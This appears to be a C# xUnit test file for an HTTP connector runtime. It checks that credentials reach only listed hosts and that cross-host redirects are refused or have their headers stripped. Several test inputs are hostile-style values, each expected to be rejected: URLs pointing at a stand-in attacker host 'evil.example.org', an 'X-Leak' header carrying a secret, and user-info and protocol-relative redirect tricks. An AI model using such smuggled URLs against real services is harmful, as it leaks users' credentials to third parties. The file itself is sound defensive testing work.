using Interactor.Runtime.Http;
using Interactor.Runtime.Json;
using Interactor.Runtime.Tests.Fakes;
using Xunit;
using static Interactor.Runtime.Tests.Fakes.FakeProvider;

namespace Interactor.Runtime.Tests.Execution;

public sealed class EgressTests
{
    private static readonly CancellationToken Token = TestContext.Current.CancellationToken;

    private readonly FakeProvider _provider = new(static _ => Answer("1"));

    [Theory]
    [InlineData("https://evil.example.org/x")]
    [InlineData("http://api.example.com/x")]
    public async Task A_credential_goes_to_listed_hosts_only(string url)
    {
        Assert.Equal(ErrorCode.AuthDenied, (await FailAsync((request, _, _) => request.Url(url), ["key"])).Code);
        Assert.Empty(_provider.Requests);
    }

    [Fact]
    public async Task A_user_name_in_a_url_is_refused()
    {
        Assert.Equal(ErrorCode.InputInvalid, (await FailAsync(static (request, _, _) => request.Url("https://api.example.com@evil.example.org/x"), ["key"])).Code);
        Assert.Empty(_provider.Requests);
    }

    [Fact]
    public async Task A_server_outside_the_list_is_refused_too()
    {
        RequestAction<JsonValue, JsonValue> action = new() { Id = "x", Version = "1.0.0", Methods = ["key"], Input = JsonContracts.Any, Output = JsonContracts.Any, Server = "evil", Method = "GET", Build = static (request, _, _) => request.Path("/x") };
        Assert.Equal(ErrorCode.AuthDenied, (await Assert.ThrowsAsync<InteractorException>(() => Executor().ExecuteAsync(action, JsonValue.Null, cancellationToken: Token))).Code);
        Assert.Empty(_provider.Requests);
    }

    [Fact]
    public async Task A_request_without_a_credential_may_go_anywhere()
    {
        await Executor().ExecuteAsync(TestActions.Get(static (request, _, _) => request.Url("http://download.example.org/x"), []), JsonValue.Null, cancellationToken: Token);
        Assert.Equal("http://download.example.org/x", _provider.Only.Url);
    }

    [Fact]
    public async Task A_secret_variable_makes_a_request_carry_a_credential()
    {
        static void Build(RequestBuilder request, JsonValue input, ActionContext context)
        {
            request.Url("https://evil.example.org/x");
            request.Header("X-Leak", context.Variables.Text("api_key"));
        }

        Assert.Equal(ErrorCode.AuthDenied, (await FailAsync(Build, [])).Code);
        Assert.Empty(_provider.Requests);
    }

    [Theory]
    [InlineData(301)]
    [InlineData(302)]
    [InlineData(303)]
    [InlineData(307)]
    [InlineData(308)]
    public async Task A_get_follows_redirects_within_its_host(int status)
    {
        FakeProvider provider = new(_ => Status(status, ("Location", "/v2/thing?x=1#frag")), _ => Status(status, ("Location", "https://api.example.com/v3/thing")), static _ => Answer("7"));
        Assert.Equal("7", (await Executor(provider).ExecuteAsync(TestActions.Get(), JsonValue.Null, cancellationToken: Token)).ToString());
        Assert.Equal(["https://api.example.com/v1/thing", "https://api.example.com/v2/thing?x=1", "https://api.example.com/v3/thing"], provider.Requests.Select(static request => request.Url));
        Assert.All(provider.Requests, static request => Assert.Equal(TestConnector.Secret, request.Header("X-Key")));
    }

    [Theory]
    [InlineData("https://evil.example.org/")]
    [InlineData("http://api.example.com/")]
    [InlineData("https://api.example.com:444/")]
    [InlineData("//evil.example.org/")]
    [InlineData("https://x@api.example.com/")]
    public async Task A_redirect_elsewhere_is_not_followed(string location)
    {
        FakeProvider provider = new(_ => Status(302, ("Location", location)), static _ => Answer("7"));
        InteractorException failure = await Assert.ThrowsAsync<InteractorException>(() => Executor(provider).ExecuteAsync(TestActions.Get(), JsonValue.Null, cancellationToken: Token));
        Assert.Equal((ErrorCode.ProviderError, 302), (failure.Code, failure.Status));
        Assert.Contains("redirect", failure.Message, StringComparison.Ordinal);
        Assert.Single(provider.Requests);
    }

    [Fact]
    public async Task A_redirect_that_is_not_followed_says_where_it_leads_and_who_may_allow_it()
    {
        FakeProvider provider = new(static _ => Status(302, ("Location", $"https://store.example.org/signed?key={TestConnector.Secret}")));
        InteractorException failure = await Assert.ThrowsAsync<InteractorException>(() => Executor(provider).ExecuteAsync(TestActions.Get(), JsonValue.Null, cancellationToken: Token));
        Assert.Contains("(302) to 'store.example.org' that is not followed", failure.Message, StringComparison.Ordinal);
        Assert.Contains("'egress'", failure.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("signed", failure.ToString(), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("https://\ufffe.example.org/")]
    [InlineData("https://xn--\u00e9.login.example.com/")]
    [InlineData("https://xn--\u00e9.com/")]
    public async Task A_redirect_to_what_is_no_host_is_not_followed(string location)
    {
        FakeProvider provider = new(_ => Status(302, ("Location", location)), static _ => Answer("7"));
        InteractorException failure = await Assert.ThrowsAsync<InteractorException>(() => Executor(provider).ExecuteAsync(TestActions.Get(), JsonValue.Null, cancellationToken: Token));
        Assert.Equal((ErrorCode.ProviderError, 302), (failure.Code, failure.Status));
        Assert.Contains("that is not followed", failure.Message, StringComparison.Ordinal);
        Assert.All(failure.Message, static character => Assert.InRange(character, ' ', '~'));
        Assert.Single(provider.Requests);
    }

    [Theory]
    [InlineData(301)]
    [InlineData(302)]
    [InlineData(303)]
    [InlineData(307)]
    [InlineData(308)]
    public async Task A_redirect_to_another_listed_host_takes_nothing_along(int status)
    {
        FakeProvider provider = new(
            _ => Status(status, ("Location", "https://a.login.example.com/signed?sig=1")), _ => Status(status, ("Location", "https://api.example.com/back")), static _ => Answer("7"));
        RequestAction<JsonValue, JsonValue> action = TestActions.Get(static (request, _, _) =>
        {
            request.Path("/v1/thing");
            request.Header("X-Custom", "1");
            request.Cookie("c", "1");
        });
        Assert.Equal("7", (await Executor(provider).ExecuteAsync(action, JsonValue.Null, cancellationToken: Token)).ToString());
        Assert.Equal(["https://a.login.example.com/signed?sig=1", "https://api.example.com/back"], provider.Requests.Skip(1).Select(static request => request.Url));
        Assert.All(provider.Requests.Skip(1), static request => Assert.Equal(("GET", null, null, null, "application/json"), (request.Method, request.Header("X-Key"), request.Header("X-Custom"), request.Header("Cookie"), request.Header("Accept"))));
    }

    [Fact]
    public async Task A_host_that_saw_no_token_does_not_say_that_it_expired()
    {
        FakeProvider provider = new(static _ => Status(302, ("Location", "https://a.login.example.com/signed")), static _ => Status(401));
        ActionExecutor executor = new(TestConnector.Make(), TestConnector.Options(provider, TestConnector.Connected()));
        InteractorException failure = await Assert.ThrowsAsync<InteractorException>(() => executor.ExecuteAsync(TestActions.Get(methods: ["oauth"]), JsonValue.Null, cancellationToken: Token));
        Assert.Equal((ErrorCode.AuthDenied, 2), (failure.Code, provider.Requests.Count));
    }

    [Theory]
    [InlineData("http://a.login.example.com/x")]
    [InlineData("https://a.login.example.com:8443/x")]
    [InlineData("https://u:p@a.login.example.com/x")]
    [InlineData("https://login.example.com/x")]
    public async Task A_listed_host_is_reached_by_its_own_port_and_encrypted(string location)
    {
        FakeProvider provider = new(_ => Status(302, ("Location", location)), static _ => Answer("7"));
        Assert.Equal(302, (await Assert.ThrowsAsync<InteractorException>(() => Executor(provider).ExecuteAsync(TestActions.Get(), JsonValue.Null, cancellationToken: Token))).Status);
        Assert.Single(provider.Requests);
    }

    [Fact]
    public async Task A_post_goes_on_as_a_get_where_the_answer_is_303()
    {
        FakeProvider provider = new(static _ => Status(303, ("Location", "/v1/things/7")), static _ => Answer("""{"name":"n","size":1}"""));
        RequestAction<Thing, Thing> action = new()
        {
            Id = "thing.create",
            Effect = ActionEffect.Write,
            Methods = ["key"],
            Input = Thing.Contract,
            Output = Thing.Contract,
            Server = "api",
            Method = "POST",
            Build = static (request, input, _) =>
            {
                request.Path("/v1/things");
                request.Header("Content-Type", "application/x-thing+json");
                request.Header("Content-Language", "en");
                ThingJson.Write(request.Json(), input);
            },
        };
        Assert.Equal(new Thing("n", 1), await Executor(provider).ExecuteAsync(action, new Thing("a", 1), cancellationToken: Token));
        SentRequest second = provider.Requests[1];
        Assert.Equal(("GET", "https://api.example.com/v1/things/7", "", TestConnector.Secret), (second.Method, second.Url, second.Body, second.Header("X-Key")));
        Assert.Null(second.Header("Content-Type"));
        Assert.Null(second.Header("Content-Language"));
    }

    [Theory]
    [InlineData(301)]
    [InlineData(302)]
    [InlineData(307)]
    [InlineData(308)]
    public async Task A_post_follows_no_other(int status)
    {
        FakeProvider provider = new(_ => Status(status, ("Location", "/v1/things/7")), static _ => Answer("""{"name":"n","size":1}"""));
        Assert.Equal(status, (await Assert.ThrowsAsync<InteractorException>(() => Executor(provider).ExecuteAsync(TestActions.Create(), new Thing("a", 1), cancellationToken: Token))).Status);
        Assert.Single(provider.Requests);
    }

    [Fact]
    public async Task Redirects_do_not_go_on_for_ever_and_a_post_follows_none()
    {
        FakeProvider provider = new(static _ => Status(302, ("Location", "/v1/thing")));
        await Assert.ThrowsAsync<InteractorException>(() => Executor(provider).ExecuteAsync(TestActions.Get(), JsonValue.Null, cancellationToken: Token));
        Assert.Equal(6, provider.Requests.Count);
        provider.Requests.Clear();
        await Assert.ThrowsAsync<InteractorException>(() => Executor(provider).ExecuteAsync(TestActions.Create(), new Thing("a", 1), cancellationToken: Token));
        Assert.Single(provider.Requests);
    }

    [Fact]
    public void A_handler_that_follows_redirects_itself_is_refused()
    {
        using HttpClientHandler handler = new();
        Assert.Throws<ArgumentException>(() => new ActionExecutor(TestConnector.Make(), new ConnectorOptions { HttpHandler = handler }));
        using SocketsHttpHandler safe = new() { AllowAutoRedirect = false };
        _ = new ActionExecutor(TestConnector.Make(), new ConnectorOptions { HttpHandler = safe });
    }

    private ActionExecutor Executor(FakeProvider? provider = null) => new(TestConnector.Make(), TestConnector.Options(provider ?? _provider));

    private Task<InteractorException> FailAsync(Action<RequestBuilder, JsonValue, ActionContext> build, string[] methods) =>
        Assert.ThrowsAsync<InteractorException>(() => Executor().ExecuteAsync(TestActions.Get(build, methods), JsonValue.Null, cancellationToken: Token));
}
